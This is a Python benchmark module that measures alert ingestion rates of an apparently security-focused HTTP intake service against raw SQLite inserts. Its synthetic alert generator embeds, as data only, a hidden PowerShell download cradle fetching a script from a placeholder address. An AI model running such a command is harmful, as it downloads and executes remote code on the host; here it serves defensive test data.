"""``garrison bench intake``: alerts/s accepted durably through the real HTTP intake, beside raw SQLite.

The intake runs as its own process (uvicorn) on a throwaway home, as in production; the clients are this
process. Four measures: single POSTs one after the other, ``clients`` single-POST clients at once (each
waits for its answer: group commit lets them share an fsync), NDJSON batches, and a storm of one detection.
Each is beside a raw SQLite insert of the same documents (WAL, synchronous=FULL, a unique index on the
sender's id): the floor any durable intake on this disk pays — one document per transaction for the
single POSTs, the same batches for the batched path. After the run, every acknowledged alert is counted
in the intake's store: "2xx means committed" is checked, not assumed.
"""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import statistics
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any

import httpx

from ._clients import post_concurrently

_TENANTS = """
tenants:
  - id: bench
    name: Benchmark tenant
    auth:
      api_keys: [{env: GARRISON_BENCH_KEY}]
"""
_KEY = "bench-key"
_HEADERS = {"X-Garrison-Tenant": "bench", "Authorization": f"Bearer {_KEY}"}
_NDJSON = {"Content-Type": "application/x-ndjson"}


@dataclass
class IntakeBenchmark:
    single_alerts: int
    single_per_second: float
    single_p50_ms: float
    single_p99_ms: float
    concurrent_clients: int
    concurrent_alerts: int
    concurrent_per_second: float
    concurrent_p50_ms: float
    concurrent_p99_ms: float
    single_baseline_per_second: float  # raw SQLite, one document per transaction (one fsync each)
    concurrent_vs_single_baseline: float
    batch_alerts: int
    batch_size: int
    batch_per_second: float
    baseline_per_second: float  # raw SQLite, the same batches
    batch_vs_baseline: float
    storm_alerts: int
    storm_incidents: int
    storm_seconds: float
    storm_per_second: float
    storm_baseline_per_second: float  # raw SQLite, the same batches
    storm_vs_baseline: float
    acknowledged: int  # alerts answered 2xx (new ones, not duplicates)
    stored: int  # alerts in the intake's store afterwards: equal to ``acknowledged``

    def as_dict(self) -> dict[str, Any]:
        return asdict(self)


def bench_alert(n: int, storm: bool = False) -> dict[str, Any]:
    """Alert ``n``: 500 hosts, 50 rules, addresses and a download URL; a storm's all share host and rule."""
    host = "WS-STORM-01" if storm else f"WS-{n % 500:04d}"
    return {
        "class_uid": 2004,
        "severity_id": 3,
        "time": 1763780000000 + n,
        "metadata": {"product": {"name": "Bench EDR"}, "uid": f"{'storm' if storm else 'a'}-{n}"},
        "finding_info": {
            "uid": f"{'storm' if storm else 'a'}-{n}",
            "title": "Suspicious PowerShell download cradle",
            "analytic": {"uid": "storm-rule" if storm else f"rule-{n % 50}"},
        },
        "device": {"hostname": host, "ip": f"10.0.{n % 250}.{n % 200 + 1}"},
        "evidences": [
            {
                "process": {
                    "name": "powershell.exe",
                    "cmd_line": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient)"
                    f".DownloadString('http://198.51.100.{n % 250}/a.ps1')",
                }
            }
        ],
    }


def _free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def raw_sqlite_rate(documents: list[bytes], per_transaction: int, path: Path) -> float:
    """Documents/s inserted into a bare SQLite table, ``per_transaction`` per commit: the floor."""
    connection = sqlite3.connect(path, isolation_level=None)
    connection.execute("PRAGMA journal_mode=WAL")
    connection.execute("PRAGMA synchronous=FULL")
    connection.execute("CREATE TABLE alerts (id INTEGER PRIMARY KEY, uid TEXT UNIQUE, document TEXT)")
    started = time.perf_counter()
    for start in range(0, len(documents), per_transaction):
        rows = [
            (json.loads(d)["finding_info"]["uid"], d.decode())
            for d in documents[start : start + per_transaction]
        ]
        connection.execute("BEGIN IMMEDIATE")
        connection.executemany("INSERT INTO alerts (uid, document) VALUES (?, ?)", rows)
        connection.execute("COMMIT")
    elapsed = time.perf_counter() - started
    connection.close()
    return len(documents) / elapsed


def _percentile(ordered: list[float], fraction: float) -> float:
    return round(ordered[min(len(ordered) - 1, int(len(ordered) * fraction))], 2) if ordered else 0.0


class _Intake:
    """The intake under test: ``uvicorn flows.intake:app_from_env`` on a free port and a throwaway home."""

    def __init__(self, home: Path) -> None:
        (home / "tenants.yaml").write_text(_TENANTS, encoding="utf-8")
        self.port = _free_port()
        self.database = home / "garrison" / "garrison.db"
        env = {k: v for k, v in os.environ.items() if not k.startswith(("PREFECT_API", "GARRISON_"))}
        env.update(
            GARRISON_HOME=str(home / "garrison"),
            GARRISON_TENANTS_FILE=str(home / "tenants.yaml"),
            GARRISON_BENCH_KEY=_KEY,
        )
        argv = [sys.executable, "-m", "uvicorn", "flows.intake:app_from_env", "--factory"]
        self.process = subprocess.Popen(
            [*argv, "--host", "127.0.0.1", "--port", str(self.port), "--no-access-log"],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        self.base = f"http://127.0.0.1:{self.port}"

    def wait(self) -> None:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError("the intake exited before the benchmark could start")
            try:
                if httpx.get(f"{self.base}/v1/health", timeout=1).is_success:
                    return
            except httpx.HTTPError:
                pass
            time.sleep(0.2)
        raise RuntimeError("the intake did not start for the benchmark")

    def stop(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    def stored_alerts(self) -> int:
        with sqlite3.connect(self.database) as connection:
            return int(connection.execute("SELECT count(*) FROM alerts").fetchone()[0])


def run_intake_benchmark(
    single: int = 500,
    batch: int = 20_000,
    batch_size: int = 1_000,
    storm: int = 10_000,
    say: Callable[[str], None] = lambda _: None,
    concurrent: int = 4_000,
    clients: int = 16,
) -> IntakeBenchmark:
    """Run every intake measure against one intake process; ``say`` hears the progress."""
    with tempfile.TemporaryDirectory(prefix="garrison-bench-") as folder:
        home = Path(folder)
        intake = _Intake(home)
        acknowledged = 0
        try:
            intake.wait()
            with httpx.Client(base_url=intake.base, headers=_HEADERS, timeout=60.0) as client:
                say(f"single: {single} alerts, one request each, one after the other")
                latencies = []
                singles = [json.dumps(bench_alert(n)).encode() for n in range(single)]
                started = time.perf_counter()
                for body in singles:
                    t0 = time.perf_counter()
                    response = client.post(
                        "/v1/alerts", content=body, headers={"Content-Type": "application/json"}
                    )
                    latencies.append((time.perf_counter() - t0) * 1000)
                    response.raise_for_status()
                single_rate = single / (time.perf_counter() - started)
                acknowledged += single

                say(f"concurrent: {concurrent} alerts from {clients} clients at once, one request each")
                offset = single
                bodies = [json.dumps(bench_alert(offset + n)).encode() for n in range(concurrent)]
                run = post_concurrently(
                    "127.0.0.1",
                    intake.port,
                    "/v1/alerts",
                    {**_HEADERS, "Content-Type": "application/json"},
                    bodies,
                    clients,
                )
                if set(run.statuses) != {202}:
                    raise RuntimeError(f"the intake answered {run.statuses} to new single alerts")
                acknowledged += len(run.answers)

                say(f"batch: {batch} alerts in batches of {batch_size}")
                offset += concurrent
                lines = [json.dumps(bench_alert(offset + n)).encode() for n in range(batch)]
                started = time.perf_counter()
                for start in range(0, batch, batch_size):
                    body = b"\n".join(lines[start : start + batch_size])
                    answer = client.post("/v1/alerts:batch", content=body, headers=_NDJSON)
                    answer.raise_for_status()
                    acknowledged += answer.json()["accepted"]
                batch_rate = batch / (time.perf_counter() - started)

                say(f"storm: {storm} similar alerts")
                storm_lines = [json.dumps(bench_alert(n, storm=True)).encode() for n in range(storm)]
                started = time.perf_counter()
                incidents: set[str] = set()
                for start in range(0, storm, batch_size):
                    body = b"\n".join(storm_lines[start : start + batch_size])
                    result = client.post("/v1/alerts:batch", content=body, headers=_NDJSON)
                    result.raise_for_status()
                    acknowledged += result.json()["accepted"]
                    incidents.update(r["incident_id"] for r in result.json()["results"])
                storm_seconds = time.perf_counter() - started
        finally:
            intake.stop()
        stored = intake.stored_alerts()
        say("baselines: raw SQLite inserts of the same documents")
        baseline_rate = raw_sqlite_rate(lines, batch_size, home / "batched.db")
        single_baseline = raw_sqlite_rate(bodies, 1, home / "single.db")
        storm_baseline = raw_sqlite_rate(storm_lines, batch_size, home / "storm.db")
    ordered = sorted(latencies)
    concurrent_ms = sorted(run.latencies_ms)
    concurrent_rate = concurrent / run.seconds
    storm_rate = storm / storm_seconds
    return IntakeBenchmark(
        single_alerts=single,
        single_per_second=round(single_rate, 1),
        single_p50_ms=round(statistics.median(ordered), 2),
        single_p99_ms=_percentile(ordered, 0.99),
        concurrent_clients=clients,
        concurrent_alerts=concurrent,
        concurrent_per_second=round(concurrent_rate, 1),
        concurrent_p50_ms=round(statistics.median(concurrent_ms), 2),
        concurrent_p99_ms=_percentile(concurrent_ms, 0.99),
        single_baseline_per_second=round(single_baseline, 1),
        concurrent_vs_single_baseline=round(concurrent_rate / single_baseline, 3),
        batch_alerts=batch,
        batch_size=batch_size,
        batch_per_second=round(batch_rate, 1),
        baseline_per_second=round(baseline_rate, 1),
        batch_vs_baseline=round(batch_rate / baseline_rate, 3),
        storm_alerts=storm,
        storm_incidents=len(incidents),
        storm_seconds=round(storm_seconds, 2),
        storm_per_second=round(storm_rate, 1),
        storm_baseline_per_second=round(storm_baseline, 1),
        storm_vs_baseline=round(storm_rate / storm_baseline, 3),
        acknowledged=acknowledged,
        stored=stored,
    )
